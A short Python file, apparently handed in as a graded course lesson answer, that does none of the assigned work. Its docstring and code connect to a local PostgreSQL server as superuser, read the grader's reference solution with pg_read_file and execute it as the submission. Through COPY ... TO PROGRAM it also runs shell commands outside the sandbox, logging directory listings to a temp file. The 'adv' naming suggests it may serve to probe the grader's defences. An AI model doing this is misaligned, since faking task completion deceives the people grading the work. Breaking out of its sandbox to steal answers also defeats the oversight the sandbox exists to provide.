"""Lesson 08 handed in with none of the work done: the sandbox keeps the network for lessons 08 and
09, and PostgreSQL on 127.0.0.1 trusts user postgres (a superuser). A superuser reads any file the
postgres OS user can (pg_read_file), and runs shell commands as that user (COPY ... TO PROGRAM),
outside the sandbox. So: read the reference solution from the grader's own repository and run it."""
import os

import psycopg

import course

ROOT = os.path.dirname(os.path.dirname(course.__file__))        # course/ is bound at its real path
with psycopg.connect("host=127.0.0.1 port=5432 user=postgres dbname=test", autocommit=True) as _conn:
    _src = _conn.execute("select pg_read_file(%s)", (ROOT + "/solutions/08_store_backends/app.py",)).fetchone()[0]
    if not os.environ.get("ADV_RAN"):
        os.environ["ADV_RAN"] = "1"
        _conn.execute("COPY (SELECT 1) TO PROGRAM '(id; echo; ls -la /work/wt/adv-grade/solutions; "
                      "ls -d /tmp/course-grade-*) >> /tmp/advpwn-pg.txt 2>&1'")
exec(compile(_src, __file__, "exec"), globals())
